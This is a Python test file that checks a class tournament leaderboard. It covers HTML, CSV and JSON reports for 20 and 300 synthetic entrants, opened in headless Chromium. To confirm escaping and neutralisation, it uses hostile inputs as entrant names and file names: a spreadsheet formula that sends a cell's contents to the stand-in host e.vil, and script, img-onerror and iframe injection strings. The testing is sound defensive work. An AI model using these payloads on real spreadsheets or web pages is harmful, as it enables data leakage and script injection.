"""The leaderboard at class size: pages for 20 and 300 entrants, opened in headless Chromium.

The tournaments are synthesised (a Bradley–Terry field of strengths with noise, through
``report``'s own types), so that 300 entrants cost seconds, not a real round robin.
"""

from __future__ import annotations

import csv
import html
import json
import re
import subprocess
import warnings
from pathlib import Path

import numpy as np
import pytest

from hogbench import leaderboard, results
from hogbench import tournament as tm
from hogbench.pairs import decision_z
from hogbench.report import files
from hogbench.rules import get_rules
from hogbench.standings import standings
from hogbench.tournament.store import PairKey, PairResult

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
FORMULA = '=HYPERLINK("http://e.vil/?"&A1,"win")'
SCRIPT = "<script>alert(1)</script>"
MB = 1_000_000
BAD_SPEC = "subs/<img src=x onerror=alert(2)>.py"
BAD_REASON = "ValueError: <script>alert(3)</script>"
BAD_FAILURE = "x vs y: <iframe src=//e.vil>"


def synthetic(n: int, mode: str = "exact", seed: int = 1, names: list[str] | None = None):
    """A finished tournament of N entrants without playing: rates from strengths (logistic) with
    noise; Monte Carlo pairs get joint counts of game pairs drawn at the games cap."""
    rng = np.random.default_rng(seed)
    rules = get_rules("hog-su21")
    games = 10_000
    t = tm.Tournament(f"Synthetic {n}", rules, [], mode=mode, games=games, seed=seed)
    names = names or [f"Student {k:03d} {rng.choice(['Ada', 'Bo', 'Cy', 'Di'])}" for k in range(n)]
    slots = [tm.Slot(f"subs/s{k:03d}.py", name) for k, name in enumerate(names)]
    strength = rng.normal(0, 1.0, n)
    results: dict[tuple[int, int], PairResult] = {}
    rates = np.full((n, n), np.nan)
    errors = np.zeros((n, n))
    undecided = np.zeros((n, n), bool)
    for i in range(n):
        for j in range(i + 1, n):
            p = 1 / (1 + np.exp(strength[j] - strength[i])) + rng.normal(0, 0.02)
            p = float(np.clip(p, 0.01, 0.99))
            if mode == "exact":
                first, second = min(p + 0.04, 1.0), max(p - 0.04, 0.0)
                key = PairKey(rules.key, f"k{i}", f"k{j}", "exact", 0, 0)
                r = PairResult(key, first, second)
            else:
                pairs = games // 2  # every pair at the cap: the largest counts
                one = np.array([p + 0.04, 1 - p - 0.04 - 0.01, 0.01]).clip(0.001)
                two = np.array([p - 0.04, 1 - p + 0.04 - 0.01, 0.01]).clip(0.001)
                joint = rng.multinomial(pairs, np.outer(one / one.sum(), two / two.sum()).ravel())
                key = PairKey(rules.key, f"k{i}", f"k{j}", "mc", seed, games)
                r = PairResult(key, 0.0, 0.0, tuple(int(c) for c in joint))
            results[i, j] = r
            for a, b, x in ((i, j, r), (j, i, r.flipped())):
                rates[a, b] = x.win_rate
                if not x.exact:
                    errors[a, b] = x.paired.standard_error
                    z = decision_z(games)
                    undecided[a, b] = x.decision(t.threshold, z) == "undecided"
    table = standings(names, rates, t.threshold, None, undecided if mode == "mc" else None)
    # One more who was disqualified, with a hostile file name and error message.
    banned = tm.Slot(BAD_SPEC, "Banned", disqualified=BAD_REASON)
    return tm.TournamentResult(
        tournament=t,
        slots=[*slots, banned],
        active=slots,
        results=tm.PairResults(results),
        standings=table,
        rates=rates,
        failures=[BAD_FAILURE],
        computed=len(results),
        stored=0,
        seconds=0.0,
    )


def odd_names(n: int) -> list[str]:
    """N names, among them the hostile and the awkward: a formula, a script, a long word."""
    names = [f"Student {k:03d}" for k in range(n)]
    names[1], names[2], names[3], names[4] = FORMULA, SCRIPT, "W" * 40, "-0.5"
    return names


class _Pages(dict):
    """Report folders by (entrants, mode), each written when a test first asks for it: a
    quick run that asks for no 300-entrant Monte Carlo page does not pay for one."""

    def __init__(self, tmp_path_factory) -> None:
        super().__init__()
        self._tmp = tmp_path_factory

    def __missing__(self, key: tuple[int, str]) -> Path:
        n, mode = key
        out = self._tmp.mktemp(f"board{n}{mode}")
        files.write_reports(results.build(synthetic(n, mode, names=odd_names(n))), out)
        self[key] = out
        return out


@pytest.fixture(scope="module")
def pages(tmp_path_factory) -> dict[tuple[int, str], Path]:
    """Report folders for 20 entrants (exact) and 300 (exact, and Monte Carlo)."""
    return _Pages(tmp_path_factory)


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(pages):
    assert files.csv_cell(FORMULA) == "'" + FORMULA
    for text in ("+1+2", "-2+3", "@SUM(A1)", "=1", "＝1", "＋1", "－1", "＠SUM(A1)"):
        assert files.csv_cell(text) == "'" + text
    for text, cell in (
        ("\t=1", "'\\x09=1"),
        ("\r=1", "'\\x0d=1"),
        ("a\x1b[2J\nb", "a\\x1b[2J\\x0ab"),
    ):
        assert files.csv_cell(text) == cell  # one line, no escape sequence
    for value in (-0.5, "-0.5", "+3", "-1e-3", 12, "Ada", "a=b"):
        assert files.csv_cell(value) == value
    out = pages[20, "exact"]
    rows = list(csv.DictReader((out / "standings.csv").open(encoding="utf-8")))
    names = {r["entrant"] for r in rows}
    assert "'" + FORMULA in names and FORMULA not in names
    assert "-0.5" in names  # a name that is a number is harmless as one
    banned = next(r for r in rows if r["entrant"] == "Banned")
    assert banned["status"] == "disqualified: " + BAD_REASON and banned["spec"] == BAD_SPEC
    for r in (r for r in rows if r["rank"]):  # the numbers are numbers
        float(r["win_rate"]), float(r["rating"]), int(r["points"])
    matrix = list(csv.reader((out / "matrix.csv").open(encoding="utf-8")))
    assert "'" + FORMULA in matrix[0] and FORMULA not in matrix[0]
    assert all(float(c) for row in matrix[1:] for c in row[1:] if c)
    pairs = list(csv.DictReader((out / "pairs.csv").open(encoding="utf-8")))
    assert not any(p["a"].startswith("=") or p["b"].startswith("=") for p in pairs)


def test_the_page_escapes_what_entrants_write(pages):
    page = (pages[20, "exact"] / "index.html").read_text(encoding="utf-8")
    assert SCRIPT not in page and html.escape(SCRIPT) in page
    assert page.count("<script") == 1  # the page's own
    assert html.escape(FORMULA) in page
    for text in (BAD_SPEC, BAD_REASON, BAD_FAILURE):  # file names, errors: text as well
        assert text not in page and html.escape(text) in page
    assert "<img src=x" not in page and "<iframe" not in page


@pytest.mark.slow  # 7 s of CPU for the exact page, more for Monte Carlo
@pytest.mark.parametrize("mode", ["exact", "mc"])
def test_300_entrants_fit_in_the_size_limits(pages, mode):
    out = pages[300, mode]
    assert (out / "index.html").stat().st_size < 2 * MB
    size = (out / "results.json").stat().st_size
    assert size < 4 * MB
    data = json.loads((out / "results.json").read_text())
    pairs = data["pairs"][mode]
    assert len(pairs) == 300 * 299 // 2  # every pair is there, for all its smallness
    if mode == "mc":  # what a Monte Carlo pair adds: its joint counts and interval
        assert size / len(pairs) < 90
        assert all(sum(row[-1]) == 5000 for row in pairs[:100])
        # Regret is for exact pairs only: the page says so rather than make one up.
        assert all(s["regret"] is None for s in data["standings"])
        assert data["best_response"].startswith("not computed: no pair is exact")
        page = (out / "index.html").read_text(encoding="utf-8")
        assert page.count("only exact pairs have one") == 300


def test_without_javascript_every_student_is_on_the_page(pages):
    """Server-side rendering: the rows, names, links and results are in the HTML itself."""
    page = (pages[300, "exact"] / "index.html").read_text(encoding="utf-8")
    assert page.count('<tr id="e-') == 300 and page.count("<details>") == 300
    assert 'href="#e-student-150"' in page and "Beat " in page and "Closest:" in page
    assert '<img class="heatmap" src="matrix.png"' in page  # the matrix at this size


def chromium(page: Path, tmp_path: Path, fragment: str, width: int) -> str:
    """PAGE opened in headless Chromium at WIDTH pixels, its DOM after the scripts ran."""
    if not Path(CHROMIUM).exists():
        reason = f"{CHROMIUM} is not installed (Debian: apt-get install chromium): pages not opened"
        warnings.warn(reason, stacklevel=1)
        pytest.skip(reason)
    profile = tmp_path / f"profile-{width}-{len(fragment)}"
    flags = [*CHROMIUM_FLAGS, f"--user-data-dir={profile}", f"--window-size={width},900"]
    done = subprocess.run(
        [CHROMIUM, *flags, "--virtual-time-budget=5000", "--dump-dom"]
        + [page.resolve().as_uri() + fragment],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


# What the probe measures once the page has loaded (its pictures too): written into the DOM.
PROBE = """<script>
window.addEventListener("load", () => {
  const root = document.documentElement;
  const rows = Array.from(document.querySelectorAll("#standings tbody tr"));
  const shown = rows.filter((r) => !r.hidden);
  const found = location.hash.startsWith("#e-")
    && document.getElementById(decodeURIComponent(location.hash.slice(1)));  // e-ban.one too
  // A login's anchor sits inside its row, or a disqualified entry's line.
  const target = found && (found.closest("tr") || found.closest("li"));
  const box = target && target.getBoundingClientRect();
  const wide = Array.from(document.querySelectorAll("body *"))
    .filter((e) => e.getBoundingClientRect().right > root.clientWidth + 1
                   && !e.closest(".scroll") && e.getClientRects().length)
    .map((e) => e.tagName + "." + e.className);
  let hover = null;  // the heatmap's tip with the pointer on the cell of rows 1 and 2
  const map = document.querySelector("img.heatmap");
  if (map) {
    const b = map.getBoundingClientRect(), n = rows.length;
    const [l, t, r, bt] = map.dataset.box.split(",").map(Number);
    map.dispatchEvent(new MouseEvent("mousemove", {
      clientX: b.left + b.width * (l + (r - l) * 1.5 / n),
      clientY: b.top + b.height * (t + (bt - t) * 0.5 / n), bubbles: true}));
    hover = document.getElementById("tip").textContent;
  }
  const probe = document.createElement("pre");
  probe.id = "probe";
  probe.textContent = JSON.stringify({
    scrollWidth: root.scrollWidth, clientWidth: root.clientWidth, wide: wide.slice(0, 5),
    shown: shown.map((r) => r.id), rows: rows.length, first: rows[0].id,
    open: target && target.querySelector("details") ? target.querySelector("details").open : null,
    inview: box ? box.bottom > 0 && box.top < window.innerHeight : null,
    tools_hidden: document.getElementById("tools").hidden, hover,
  });
  document.body.appendChild(probe);
});
</script>
"""


def probe(
    out: Path, tmp_path: Path, fragment: str = "", width: int = 1280, own_script: bool = True
) -> dict:
    """What PROBE measures on the page (without its own script: OWN_SCRIPT false)."""
    page = (out / "index.html").read_text(encoding="utf-8")
    if not own_script:
        page = re.sub(r"<script>.*?</script>", "", page, flags=re.S)
    probed = out / "probe.html"
    probed.write_text(page.replace("</body>", PROBE + "</body>"), encoding="utf-8")
    dom = chromium(probed, tmp_path, fragment, width)
    found = re.search(r'<pre id="probe">(.*?)</pre>', dom, re.S)
    assert found, "the probe did not run"
    return json.loads(html.unescape(found.group(1)))


@pytest.mark.parametrize("n", [20, pytest.param(300, marks=pytest.mark.slow)])  # 110 s wall
def test_the_page_in_chromium_finds_a_student_and_does_not_overflow(pages, tmp_path, n):
    out = pages[n, "exact"]
    data = json.loads((out / "results.json").read_text())
    wanted = data["standings"][n // 2]["name"]
    for width in (1280, 800):
        seen = probe(out, tmp_path, f"#q={wanted.lower()}", width)
        assert seen["rows"] == n
        assert seen["scrollWidth"] <= seen["clientWidth"], seen  # nothing overflows
        assert seen["wide"] == [], seen
        rows = row_names(out)
        assert report_anchor(out, wanted) in seen["shown"]
        assert all(wanted.lower() in rows[i] for i in seen["shown"])
        assert len(seen["shown"]) < n  # the search filtered
    # Each student's link opens their row; the opened row still fits.
    target = report_anchor(out, wanted)
    seen = probe(out, tmp_path, f"#{target}", 800)
    assert seen["open"] is True and seen["scrollWidth"] <= seen["clientWidth"], seen
    if n > leaderboard.MATRIX_TABLE_LIMIT:  # the heatmap names the cell under the pointer
        seen = probe(out, tmp_path, "", 1280)
        rate = next(r[4] for r in data["pairs"]["exact"] if (r[0], r[1]) == (0, 1))
        first, second = data["standings"][0]["name"], data["standings"][1]["name"]
        shown = "%g" % (round(1000 * rate) / 10)
        assert seen["hover"].startswith(f"{first} vs {second}: {shown}%"), seen["hover"]
    # Sorting by a fragment, as a click would: the worst win rate first.
    seen = probe(out, tmp_path, "#sort=win_rate", 1280)
    worst = min(data["standings"], key=lambda s: s["win_rate"])
    assert seen["first"] == report_anchor(out, worst["name"])


def row_names(out: Path) -> dict[str, str]:
    """Row id -> the lower-case name the search looks in, read from the page."""
    page = (out / "index.html").read_text(encoding="utf-8")
    found = re.findall(r'<tr id="([^"]+)" data-pos="\d+" data-name="([^"]*)"', page)
    return {i: html.unescape(name) for i, name in found}


def report_anchor(out: Path, name: str) -> str:
    """The row id the page gave NAME (read from the page itself)."""
    page = (out / "index.html").read_text(encoding="utf-8")
    found = re.search(
        r'<tr id="([^"]+)" data-pos="\d+" data-name="' + re.escape(html.escape(name.lower())) + '"',
        page,
    )
    assert found, name
    return found.group(1)


def test_the_page_reads_without_javascript(pages, tmp_path):
    """The page's script removed (as a browser without JavaScript shows it): every row is
    there, nothing overflows, and the search box, which would not work, is not shown."""
    for n in (20, 300):
        seen = probe(pages[n, "exact"], tmp_path, "", 800, own_script=False)
        assert seen["rows"] == n and len(seen["shown"]) == n
        assert seen["scrollWidth"] <= seen["clientWidth"] and seen["wide"] == [], seen
        assert seen["tools_hidden"] is True


def test_the_heatmap_cells_are_where_the_page_says(pages):
    """The box the page uses for hovering is where matplotlib drew the cells: the centres of
    the diagonal cells (no result) are grey, the top right blue (the best beats the worst),
    the bottom left red."""
    plt = pytest.importorskip("matplotlib.pyplot")
    out = pages[300, "exact"]
    page = (out / "index.html").read_text(encoding="utf-8")
    left, top, right, bottom = map(
        float, re.search(r'data-box="([^"]+)"', page).group(1).split(",")
    )
    image = plt.imread(out / "matrix.png")[:, :, :3]
    height, width = image.shape[:2]
    n = 300

    def pixel(p: int, q: int) -> np.ndarray:
        x = (left + (right - left) * (q + 0.5) / n) * width
        y = (top + (bottom - top) * (p + 0.5) / n) * height
        return image[int(y), int(x)]

    grey = np.array([0xDD, 0xDD, 0xDD]) / 255
    on_grey = [np.abs(pixel(k, k) - grey).max() < 0.05 for k in range(0, n, 7)]
    assert sum(on_grey) >= 0.9 * len(on_grey)
    blue, red = pixel(0, n - 1), pixel(n - 1, 0)
    assert blue[2] > blue[0] + 0.2 and red[0] > red[2] + 0.2


@pytest.mark.slow  # 20 s CPU: a class of 300
def test_a_class_of_300_with_a_roster_finds_each_student_by_login_or_team(tmp_path):
    """300 entries on a roster, one of them a pair and a disqualified one a pair too: in
    headless Chromium at 1280 and 800 px, with the page's script and without it, each student,
    each partner of a pair included, reaches their own row by login and by team name."""
    from hogbench import roster as rs

    n = 300
    result = synthetic(n, names=odd_names(n))
    lines = ["login,name,path"]
    for k, slot in enumerate(result.slots[:n]):
        slot.path = tmp_path / "subs" / f"s{k:03d}.py"
        lines.append(f"stu{k:03d}x,Student Number {k},subs/s{k:03d}.py")
    banned = result.slots[n]
    banned.path = tmp_path / "subs" / "banned.py"
    # The middle of the standings, whichever slot that is, gets a partner; so does the banned.
    middle = results.build(result, budget=0).entrants[n // 2].spec
    k = int(Path(middle).stem[1:])
    lines += [f"partner{k:03d},Pat Partner,subs/s{k:03d}.py"]
    lines += ["ban.one,Ban One,subs/banned.py", "ban-two,Ban Two,subs/banned.py"]
    roster = tmp_path / "roster.csv"
    roster.write_text("\n".join(lines) + "\n")
    report = rs.apply(results.build(result, budget=0), rs.read(roster), result)
    out = tmp_path / "site"
    files.write_reports(report, out)
    who = report.entrants[n // 2]
    (login, partner), team = who.logins, who.name
    assert (login, partner) == (f"stu{k:03d}x", f"partner{k:03d}")
    links = {r["login"]: r["url"] for r in csv.DictReader((out / "links.csv").open())}
    assert len(links) == n + 3
    for x in (login, partner, "ban.one", "ban-two"):
        assert links[x] == f"index.html#e-{x}"
    row = report_anchor(
        out, " ".join([team, *(x for m in who.students for x in (m.login, m.name))])
    )
    # Each student's way to the row at each width, spread over the two (each launch of
    # Chromium takes seconds): the first partner at 1280 px, the second at 800.
    for width, me, dq in ((1280, login, "ban.one"), (800, partner, "ban-two")):
        for query in (me, team.lower() if width == 1280 else "pat partner"):
            seen = probe(out, tmp_path, f"#q={query}", width)
            assert row in seen["shown"] and len(seen["shown"]) < n, (query, seen)
            assert seen["scrollWidth"] <= seen["clientWidth"] and seen["wide"] == [], seen
        for own_script in (True, False):  # each login's link reaches the row either way
            seen = probe(out, tmp_path, f"#e-{me}", width, own_script)
            assert seen["inview"] is True, (me, width, own_script, seen)
            assert seen["open"] is own_script  # the script also opens the row's details
            # A disqualified pair's logins reach its line in the list of the disqualified.
            seen = probe(out, tmp_path, f"#e-{dq}", width, own_script)
            assert seen["inview"] is True and seen["open"] is None, seen
        seen = probe(out, tmp_path, f"#{row}", width, own_script=width == 1280)
        assert seen["inview"] is True, (width, seen)
    # Without the script every row is there to find with the browser's own search.
    page = (out / "index.html").read_text(encoding="utf-8")
    assert page.count('<tr id="e-') == n
    for x in (login, partner, "ban.one", "ban-two"):
        assert page.count(f'id="e-{x}"') == 1, x
